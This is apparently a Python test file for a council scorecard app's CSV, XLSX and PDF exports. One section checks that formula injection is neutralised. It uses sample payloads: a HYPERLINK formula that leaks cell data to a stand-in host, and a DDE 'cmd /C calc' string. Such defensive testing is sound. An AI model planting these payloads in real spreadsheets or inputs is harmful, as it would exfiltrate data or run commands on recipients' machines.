"""Scorecard exports: every number and interval, synthetic rows flagged."""

import csv
import io
from datetime import date

import pytest
from python_calamine import CalamineWorkbook

from equalchance.scorecards.compute import scorecard_compute
from equalchance.scorecards.exports import columns
from equalchance.scorecards.publishing import snapshot_publish

pytestmark = pytest.mark.django_db


@pytest.fixture
def signed_in(client, scorecard, analyst):
    client.force_login(analyst)
    return scorecard, analyst


def test_the_csv_holds_every_line_with_its_values_intervals_and_labels(client, signed_in):
    scorecard, _ = signed_in
    response = client.get(f"/scorecards/{scorecard.pk}/export.csv")
    table = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert response.status_code == 200 and list(table[0]) == columns() and len(table) == 11
    cpp = next(row for row in table if row["Indicator code"] == "cpp-rate")
    lines = [line for theme in scorecard_compute(scorecard, as_at=date.today()) for line in theme.lines]
    live = next(line for line in lines if line.indicator.code == "cpp-rate")
    assert float(cpp["Target area value"]) == pytest.approx(live.values.target.estimate.value, abs=0.05)
    assert float(cpp["Gap: target minus the rest of the district: lower 95% limit"]) == pytest.approx(
        live.differences["rest"].lower, abs=0.05
    )
    # The rate of child protection plans has no judgement: higher, never worse.
    assert cpp["Synthetic"] == "yes"
    assert cpp["Gap with the rest of the district: status"] == "target significantly higher"
    asb = next(row for row in table if row["Indicator code"] == "asb-rate")
    assert asb["Synthetic"] == "yes" and float(asb["Target area value"]) > float(
        asb["Rest of district value"]
    )


def test_the_xlsx_has_the_same_rows_and_says_what_synthetic_means(client, signed_in, tmp_path):
    scorecard, _ = signed_in
    response = client.get(f"/scorecards/{scorecard.pk}/export.xlsx")
    path = tmp_path / "scorecard.xlsx"
    path.write_bytes(response.content)
    workbook = CalamineWorkbook.from_path(str(path))
    rows = workbook.get_sheet_by_name("Scorecard").to_python()
    assert rows[0] == columns() and len(rows) == 12
    about = " ".join(str(r[0]) for r in workbook.get_sheet_by_name("About").to_python())
    assert "synthetic = yes" in about


def test_a_snapshot_exports_what_was_published(client, signed_in):
    scorecard, user = signed_in
    snapshot = snapshot_publish(
        scorecard=scorecard,
        title="October 2020",
        as_at=date(2020, 12, 31),
        commentary={},
        public=False,
        by=user,
    )
    table = list(
        csv.DictReader(
            io.StringIO(client.get(f"/scorecards/snapshots/{snapshot.pk}/export.csv").content.decode())
        )
    )
    assert next(row for row in table if row["Indicator code"] == "cpp-rate")["Period"] == "31 March 2020"
    unknown = client.get(f"/scorecards/snapshots/{snapshot.pk}/export.docx")
    assert unknown.status_code == 404  # not a format we make


def test_the_board_pdf_has_a_cover_a_summary_and_a_section_per_theme(client, signed_in):
    from pypdf import PdfReader

    scorecard, user = signed_in
    snapshot = snapshot_publish(
        scorecard=scorecard,
        title="Narrowing the Gap, October 2026",
        as_at=date(2026, 12, 31),
        commentary={"Health": "Fewer children needed a plan in the target area."},
        public=False,
        by=user,
    )
    response = client.get(f"/scorecards/snapshots/{snapshot.pk}/export.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.content))
    assert len(reader.pages) >= 6  # cover and summary, then one section per theme
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    assert "Narrowing the Gap, October 2026" in text and "Summary of the directions of travel" in text
    for theme in [
        "Education & Skills",
        "Employment & Poverty",
        "Health",
        "Housing & Environment",
        "Targeting Key Individuals",
    ]:
        assert theme in text
    assert "Fewer children needed a plan in the target area." in text
    assert "Synthetic" in text and "Children subject to a child protection plan" in text


# ---------------------------------------------------------------------------------------------------
# Text that someone typed is never a live formula in a spreadsheet


FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Click")'


def xlsx_cells(content: bytes, sheet: int = 1) -> dict[str, dict]:
    """Each cell of a worksheet read straight from the XLSX XML: its type, any formula, and its text
    (shared strings resolved), so the test sees what a spreadsheet program would."""
    import zipfile
    from xml.etree import ElementTree

    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        strings = []
        if "xl/sharedStrings.xml" in archive.namelist():
            root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            strings = ["".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t")) for si in root]
        root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{sheet}.xml"))
    cells = {}
    for cell in root.iter(f"{{{ns['m']}}}c"):
        kind = cell.get("t", "n")
        formula = cell.find("m:f", ns)
        value = cell.find("m:v", ns)
        text = value.text if value is not None else None
        if kind == "s" and text is not None:
            text = strings[int(text)]
        elif kind == "inlineStr":
            text = "".join(t.text or "" for t in cell.iter(f"{{{ns['m']}}}t"))
        cells[cell.get("r")] = {
            "type": kind,
            "formula": formula.text if formula is not None else None,
            "text": text,
        }
    return cells


@pytest.fixture
def formula_theme(scorecard, analyst):
    """A measure added under a theme whose typed name is a formula, and the scorecard renamed to one."""
    from equalchance.indicators.models import Indicator
    from equalchance.scorecards import services

    services.line_add(
        scorecard=scorecard,
        by=analyst,
        indicator=Indicator.objects.get(code="claimant-count-16-64"),
        theme=None,
        new_theme=FORMULA,
        polarity="",
    )
    services.scorecard_update(scorecard=scorecard, by=analyst, name="@SUM(1+1)")
    return scorecard


def test_a_theme_typed_as_a_formula_is_plain_text_in_the_csv_and_numbers_stay_numbers(
    client, formula_theme, analyst
):
    client.force_login(analyst)
    content = client.get(f"/scorecards/{formula_theme.pk}/export.csv").content.decode()
    table = list(csv.DictReader(io.StringIO(content)))
    themed = [row for row in table if row["Indicator code"] == "claimant-count-16-64"]
    assert themed and themed[0]["Theme"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "@")) for row in table for cell in row.values())
    # negative numbers (lower limits of gaps) stay numbers, not '-1.2
    limits = [row[name] for row in table for name in row if name.startswith("Gap") and "lower" in name]
    assert any(limit.startswith("-") for limit in limits)
    assert all(float(limit) == float(limit) for limit in limits if limit)


def test_text_typed_as_a_formula_is_a_string_cell_in_the_xlsx_never_a_formula(client, formula_theme, analyst):
    client.force_login(analyst)
    content = client.get(f"/scorecards/{formula_theme.pk}/export.xlsx").content
    rows = xlsx_cells(content, sheet=1)
    assert not [ref for ref, cell in rows.items() if cell["formula"]]
    themes = [cell for ref, cell in rows.items() if ref.startswith("A") and cell["text"] == "'" + FORMULA]
    assert themes and themes[0]["type"] == "s"
    numbers = [cell for cell in rows.values() if cell["type"] == "n"]
    assert numbers and any(cell["text"].startswith("-") for cell in numbers)  # negative gaps are numbers
    about = xlsx_cells(content, sheet=2)
    assert about["A1"] == {"type": "s", "formula": None, "text": "'@SUM(1+1)"}


def test_a_snapshot_titled_as_a_formula_exports_it_as_text(client, scorecard, analyst):
    snapshot = snapshot_publish(
        scorecard=scorecard,
        title="-2+3+cmd|' /C calc'!A0",
        as_at=date(2024, 12, 31),
        commentary={},
        public=False,
        by=analyst,
    )
    client.force_login(analyst)
    about = xlsx_cells(client.get(f"/scorecards/snapshots/{snapshot.pk}/export.xlsx").content, sheet=2)
    assert about["A1"]["formula"] is None and about["A1"]["text"] == "'-2+3+cmd|' /C calc'!A0"


# ---------------------------------------------------------------------------------------------------
# Exports for machines: number formats, rounded values, readable headers, file names from titles


def test_the_xlsx_carries_number_formats_and_values_rounded_to_the_measures_decimals(client, signed_in):
    import openpyxl

    scorecard, _ = signed_in
    response = client.get(f"/scorecards/{scorecard.pk}/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Scorecard"]
    header = [cell.value for cell in sheet[1]]
    assert header == columns() and not any("_" in name for name in header)
    assert "Target area value" in header and "Gap: target minus the rest of the district" in header
    rows = {
        row[1].value: {name: cell for name, cell in zip(header, row)} for row in sheet.iter_rows(min_row=2)
    }
    lines = [line for theme in scorecard_compute(scorecard, as_at=date.today()) for line in theme.lines]
    live = {line.indicator.code: line for line in lines}
    gld, cpp = rows["gld"], rows["cpp-rate"]  # a percentage (1 decimal) and a rate per 10,000
    assert gld["Target area value"].number_format == "0.0%"
    assert gld["Target area value"].value == round(live["gld"].values.target.estimate.value / 100, 3)
    gap = gld["Gap: target minus the rest of the district"]
    assert gap.number_format == "+#,##0.0;-#,##0.0;0.0"  # percentage points
    assert gap.value == round(
        live["gld"].values.target.estimate.value - live["gld"].values.rest.estimate.value, 1
    )
    assert cpp["Target area value"].number_format == "#,##0.0"
    assert cpp["Target area value"].value == round(live["cpp-rate"].values.target.estimate.value, 1)
    assert cpp["England denominator"].number_format == "#,##0"
    assert cpp["England denominator"].value == live["cpp-rate"].values.england.denominator
    numbers = [c.value for row in rows.values() for c in row.values() if isinstance(c.value, float)]
    assert numbers and all(len(repr(x).split(".")[-1]) <= 4 for x in numbers)  # never 15 digits


def test_the_csv_has_readable_headers_and_rounded_numbers(client, signed_in):
    scorecard, _ = signed_in
    content = client.get(f"/scorecards/{scorecard.pk}/export.csv").content.decode()
    table = list(csv.DictReader(io.StringIO(content)))
    assert not any("_" in name for name in table[0])
    gld = next(row for row in table if row["Indicator code"] == "gld")
    assert gld["Unit"] == "%" and gld["Polarity"] == "Higher is better"
    assert len(gld["Target area value"].split(".")[-1]) == 1  # 54.8, not 54.76973684210527


def test_export_file_names_come_from_titles_never_ids_alone(client, signed_in):
    from django.utils import timezone

    scorecard, user = signed_in
    today = date.today()
    response = client.get(f"/scorecards/{scorecard.pk}/export.xlsx")
    assert response["Content-Disposition"] == (
        f'attachment; filename="narrowing-the-gap-regeneration-wards-solihull-{today:%Y-%m-%d}.xlsx"'
    )
    snapshot = snapshot_publish(
        scorecard=scorecard,
        title="Narrowing the Gap, October 2026",
        as_at=date(2026, 12, 31),
        commentary={},
        public=False,
        by=user,
    )
    published = timezone.localdate(snapshot.published_at)
    for file_format in ("csv", "xlsx", "pdf"):
        response = client.get(f"/scorecards/snapshots/{snapshot.pk}/export.{file_format}")
        name = f"narrowing-the-gap-october-2026-solihull-{published:%Y-%m-%d}.{file_format}"
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
